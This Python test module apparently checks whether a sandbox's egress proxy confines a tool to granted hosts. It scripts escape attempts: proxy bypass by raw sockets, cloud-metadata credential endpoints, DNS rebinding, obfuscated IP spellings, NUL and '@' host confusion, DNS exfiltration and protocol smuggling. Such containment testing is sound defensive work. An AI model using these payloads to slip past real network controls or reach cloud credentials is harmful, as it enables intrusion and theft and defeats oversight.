"""A granted host, and a tool that wants more than that: other hosts, ports and addresses by way of the proxy."""

from __future__ import annotations

from collections.abc import Callable

from toolwright.escape.fronts import Front, Names, Plan, Planned, proxied


def _leading(*labels: str, to: str = "127.0.0.2", more: tuple[str, ...] = ()) -> Plan:
    """A plan that grants a name for each of *labels*, all of which lead to *to*, and *more* hosts as they are."""

    def plan(front: Front, names: Names) -> Planned:
        made = [names.name(label, [to]) for label in labels]
        return (front.power, *(f"{name}:{front.port}" for name in made), *more), {"names": made}

    return plan


def _wildcard(front: Front, names: Names) -> Planned:
    """`*.inner.ZONE` is granted; what only looks like it leads to the other server."""
    zone = names.zone
    alike = [f"inner.{zone}", f"evilinner.{zone}", f"x.inner.{zone}.evil.{zone}", f"inner.{zone}.evil.{zone}"]
    alike += [f"*inner.{zone}", f"x.inner-{zone}", f".inner.{zone}", f"x.inner.{zone}@evil.{zone}"]
    for one in (*alike, f"evil.{zone}"):
        names.leads[one] = [["127.0.0.2"]]
    return (f"*.inner.{zone}:{front.port}",), {"alike": alike}


def _rebinding(front: Front, names: Names) -> Planned:
    name = names.name("turning", *[["127.0.0.1"], ["127.0.0.2"]] * 8)
    return (front.power, f"{name}:{front.port}"), {"name": name}


def _two_addresses(front: Front, names: Names) -> Planned:
    # Nothing listens at the first, which is granted: a client that tries the next one ends at the other server.
    name = names.name("twofold", ["127.0.0.3", "127.0.0.2"])
    return (f"127.0.0.3:{front.port}", f"{name}:{front.port}"), {"name": name}


def _metadata(front: Front, names: Names) -> Planned:
    addresses = ["169.254.169.254", "100.100.100.200", "192.0.0.192", "168.63.129.16"]
    made = [names.name(f"metadata{number}", [address]) for number, address in enumerate(addresses)]
    hosts = (front.power, *(f"{name}:{front.port}" for name in made))
    return hosts, {"spelled": [*addresses, *made, "2852039166", "0xa9fea9fe", "[::ffff:169.254.169.254]"]}


def _moved(target: str) -> Callable[[int], bytes]:
    return lambda port: (
        f"HTTP/1.1 302 Found\r\nLocation: {target.format(port=port)}\r\nContent-Length: 0\r\n\r\n".encode()
    )


ATTACKS = (
    # -- other places ------------------------------------------------------------------------------------------------
    proxied(
        "another host through the proxy",
        'return [ask(f"http://{it[\'other\']}/"), ask(f"http://{it[\'other\']}/", host=it["other"])]',
        gain="fetches from a host that was not granted",
    ),
    proxied(
        "a tunnel to another port of the granted host",
        """
        return [tunnel(f"127.0.0.1:{it['port']}", host=it["granted"]), tunnel(f"127.0.0.1:{it['port']}")]
        """,
        gain="reaches another service of the machine that was granted for one port",
    ),
    proxied(
        "straight past the proxy",
        """
        def dial(address):
            with socket.create_connection((address, it["port"]), timeout=0.5) as line:
                return line.recv(1)
        return loot(*[lambda one=one: dial(one) for one in ("127.0.0.1", "127.0.0.2", "0.0.0.0", "localhost")])
        """,
        gain="connects to the host's loopback by itself, with the sockets that a host grant brings",
    ),
    proxied(
        "datagrams beside the proxy",
        """
        def send(kind, protocol=0):
            with socket.socket(socket.AF_INET, kind, protocol) as line:
                line.sendto(b"leak", ("127.0.0.1", it["datagrams"]))
                return line.send(b"leak")
        return loot(lambda: send(socket.SOCK_DGRAM), lambda: send(socket.SOCK_DGRAM, 17), lambda: send(socket.SOCK_RAW))
        """,
        datagrams=True,
        gain="sends data out by UDP, as a question to a DNS server would",
    ),
    proxied(
        "kinds of stream that no proxy sees",
        """
        opened = []
        kinds = {"mptcp": (2, 1, 262), "sctp": (2, 1, 132), "smc": (43, 1, 0), "ipv6": (10, 1, 0), "unix": (1, 1, 0),
                 "vsock": (40, 1, 0), "packet": (2, 10, 0), "udp-lite": (2, 2, 136), "ping": (2, 2, 1)}
        for name, (family, kind, protocol) in kinds.items():
            try:
                socket.socket(family, kind, protocol).close()
                opened.append(name)
            except OSError:
                pass
        return "opened: " + str(opened) if opened else "none"
        """,
        lambda seen: "opened: " in seen.text,
        gain="gets a socket of a kind that nobody thought of",
    ),
    proxied(
        "a door of its own beside the proxy's",
        """
        with socket.socket() as server:
            server.bind(("127.0.0.1", 0))
            server.listen()
            return "listens: " + str(server.getsockname())
        """,
        lambda seen: "listens: " in seen.text,
        gain="listens where programs beside it may connect",
    ),
    proxied(
        "the way out of another guest",
        r"""
        found = []
        for number in (3128, *range(it["port"] - 20, it["port"] + 20), *range(32768, 33768, 50)):
            with socket.socket() as line:
                line.settimeout(0.05)
                if line.connect_ex(("127.0.0.1", number)):
                    continue
                line.settimeout(1)
                line.sendall(f"GET http://{it['other']}/ HTTP/1.1\r\nHost: {it['other']}\r\n\r\n".encode())
                try:
                    found.append(line.recv(100).decode("latin-1"))
                except OSError:
                    pass
        return [found, say(f"GET http://{it['other']}/ HTTP/1.1\r\nHost: x\r\n\r\n")]
        """,
        beside="return stay(it)",
        gain="uses what a guest beside it was granted",
    ),
    proxied(
        "spellings of this machine",
        """
        here = ["127.0.0.1", "localhost", "localhost.localdomain", "ip6-localhost", socket.gethostname(), "0.0.0.0",
                "[::1]", "[::]", "127.0.0.1.nip.io", "0", "127.1", "127.0.1", "loopback"]
        return [ask(f"http://{name}:{it['port']}/")[:60] for name in here]
        """,
        gain="reaches a service of the machine that the proxy runs on",
    ),
    proxied(
        "addresses spelled as numbers",
        """
        port = it["other"].partition(":")[2]
        spelled = ["127.2", "2130706434", "0x7f000002", "0x7f.0.0.2", "0177.0.0.2", "017700000002", "127.0.0.02",
                   "127.0.0.2.", "127.0.0.2%00", "%31%32%37.0.0.2", "127.0.0.2%2e"]
        said = [ask(f"http://{name}:{port}/") for name in spelled] + [tunnel(f"{name}:{port}") for name in spelled]
        return [one[:60] for one in said]
        """,
        gain="reaches an address by a spelling that the allow-list does not know and the resolver does",
    ),
    proxied(
        "addresses inside of IPv6 ones",
        """
        port = it["other"].partition(":")[2]
        spelled = ["[::ffff:127.0.0.2]", "[::ffff:7f00:2]", "[0:0:0:0:0:ffff:7f00:0002]", "[::127.0.0.2]",
                   "[64:ff9b::7f00:2]", "[2002:7f00:2::]", "[::1%25lo]", "[fe80::1%25lo]", "::ffff:127.0.0.2"]
        said = [ask(f"http://{name}:{port}/") for name in spelled] + [tunnel(f"{name}:{port}") for name in spelled]
        return [one[:60] for one in said]
        """,
        gain="reaches a private IPv4 address in the clothes of IPv6",
    ),
    proxied(
        "metadata of the cloud",
        """
        port = it["granted"].partition(":")[2]
        said = [(ask(f"http://{name}:{port}/latest/meta-data/") or "none none").split()[1] for name in it["spelled"]]
        return "asked: " + str(said) if set(said) - {"400", "403"} else "refused"
        """,
        lambda seen: "asked: " in seen.text,
        plan=_metadata,
        gain="has the proxy connect to the address where clouds hand out credentials",
    ),
    # -- names -------------------------------------------------------------------------------------------------------
    proxied(
        "a granted name that leads to a private address",
        "return [ask(f\"http://{name}:{it['granted'].partition(':')[2]}/\")[:80] for name in it[\"names\"]]",
        plan=_leading("private"),
        gain="reaches this machine or its neighbours by a name whose owner points it there",
    ),
    proxied(
        "a name that leads elsewhere at its second look-up",
        "return [ask(f\"http://{it['name']}:{it['granted'].partition(':')[2]}/\")[:60] for _ in range(4)]",
        plan=_rebinding,
        gain="passes the check with a good address and connects to a private one (DNS rebinding)",
    ),
    proxied(
        "a name with a good and a private address",
        "return [ask(f\"http://{it['name']}:{it['granted'].partition(':')[2]}/\")[:60] for _ in range(2)]",
        plan=_two_addresses,
        gain="has the proxy fall back to the address that was not checked",
    ),
    proxied(
        "names that look like a granted wildcard",
        "return [ask(f\"http://{name}:{it['granted'].partition(':')[2]}/\")[:60] for name in it[\"alike\"]]",
        plan=_wildcard,
        gain="reaches a host that only ends like one below the wildcard",
    ),
    proxied(
        "names with a NUL",
        r"""
        port = it["other"].partition(":")[2]
        names = [b"127.0.0.2\0.127.0.0.1", b"127.0.0.2\0@127.0.0.1", b"127.0.0.2%00.127.0.0.1"]
        return [say(b"GET http://" + name + b":" + port.encode() + b"/ HTTP/1.1\r\nHost: x\r\n\r\n")[:60]
                for name in names]
        """,
        gain="reaches a host before the NUL, while the allow-list reads what stands behind it",
    ),
    proxied(
        "names with letters that fold to ASCII",
        r"""
        port = it["other"].partition(":")[2]
        names = ["\uff11\uff12\uff17.0.0.2", "127\u30020\u30020\u30022", "127.0.0.\u00b2", "\u2460\u2461\u2466.0.0.2"]
        return [say(f"GET http://{name}:{port}/ HTTP/1.1\r\nHost: x\r\n\r\n".encode())[:60] for name in names]
        """,
        gain="reaches an address in full-width digits and dots, which the resolver folds",
    ),
    proxied(
        "a user name that looks like the host",
        r"""
        good, bad = it["granted"], it["other"]
        targets = [f"http://{good}@{bad}/", f"http://{good}:{good}@{bad}/", f"http://{good}%40{bad}/",
                   f"http://{bad}#@{good}/", f"http://{bad}?@{good}/", f"http://{bad}\\@{good}/", f"http://{good}/@{bad}"]
        return [ask(one)[:60] for one in targets] + [tunnel(f"{good}@{bad}")[:60]]
        """,
        gain="reaches the host behind the @ while the check reads what stands before it",
    ),
    proxied(
        "data in names that are looked up",
        """
        name = f"my-leak.{it['zone']}"
        names = [f"{name}:443", f"{name}:80", f"{name}.:80", f"{name}:{it['granted'].partition(':')[2]}"]
        return [tunnel(one)[:60] for one in names] + [ask(f"http://{one}/")[:60] for one in names]
        """,
        gain="carries data out in questions to DNS that the proxy asks for it",
    ),
    # -- other ways to say it ----------------------------------------------------------------------------------------
    proxied(
        "a redirect to a private address",
        """
        import urllib.request
        opener = urllib.request.build_opener(urllib.request.ProxyHandler({"http": way()}))
        return loot(lambda: opener.open(f"http://{it['granted']}/", timeout=1).read())
        """,
        answer=_moved("http://127.0.0.2:{port}/secret"),
        gain="is led by a granted host to one that was not granted, which its client library follows",
    ),
    proxied(
        "a target that stands in Host only",
        r"""
        other = it["other"]
        targets = ["/", "//", f"//{other}/", f"/{other}/", "*", f"http:/{other}/", f"http:///{other}/"]
        return [say(f"GET {line} HTTP/1.1\r\nHost: {other}\r\n\r\n")[:60] for line in targets]
        """,
        gain="is passed on by a proxy that takes Host where the target names no host",
    ),
    proxied(
        "two targets in one request line",
        r"""
        good, bad = f"http://{it['granted']}/", f"http://{it['other']}/"
        lines = [f"GET {good} {bad} HTTP/1.1", f"GET {good}\t{bad} HTTP/1.1", f"GET\t{bad} HTTP/1.1 {good} HTTP/1.1",
                 f"GET {good} HTTP/1.1\rGET {bad} HTTP/1.1"]
        return [say(f"{line}\r\nHost: {it['granted']}\r\n\r\n")[:60] for line in lines]
        """,
        gain="has the check read one target and the connection another",
    ),
    proxied(
        "other protocols at the proxy's door",
        r"""
        host, _, port = it["other"].partition(":")
        socks = b"\5\1\0"
        said = [say(f"GET http://{it['other']}/\n"), say(f"GET ftp://{it['other']}/ HTTP/1.1\r\nHost: x\r\n\r\n")]
        with link() as line:
            line.sendall(socks)
            line.sendall(b"\5\1\0\1" + socket.inet_aton(host) + int(port).to_bytes(2, "big"))
            said.append(heard(line))
        said.append(say(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + f"GET http://{it['other']}/ HTTP/1.1\r\n\r\n".encode()))
        return [one[:60] for one in said]
        """,
        gain="gets out by SOCKS, HTTP/0.9 or another scheme that nobody checks",
    ),
)
